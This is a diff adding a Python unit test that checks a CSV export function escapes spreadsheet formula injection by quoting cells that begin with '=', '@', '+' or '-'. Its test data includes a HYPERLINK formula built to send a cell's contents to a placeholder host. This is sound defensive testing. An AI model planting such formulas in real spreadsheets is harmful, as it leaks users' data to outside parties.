@@ -84,6 +84,15 @@ def test_a_long_table_is_a_grid_with_its_numbers_to_take_away(n_rows):
     )
 
 
+def test_a_formula_in_a_table_is_text_in_its_csv():
+    rows = [{"@a": '=HYPERLINK("http://x/?"&A1)', "b": -0.5}, {"b": " +1"}]
+    assert list(csv.reader(io.StringIO(rows_csv(rows)))) == [
+        ["'@a", "b"],
+        ["'" + rows[0]["@a"], "-0.5"],
+        ["", "' +1"],
+    ]
+
+
 def test_rows_as_csv_have_every_column_that_any_row_has():
     rows = [{"a": 1, "b": "x,\ny"}, {"a": 2, "c": None}]
     assert list(csv.reader(io.StringIO(rows_csv(rows)))) == [
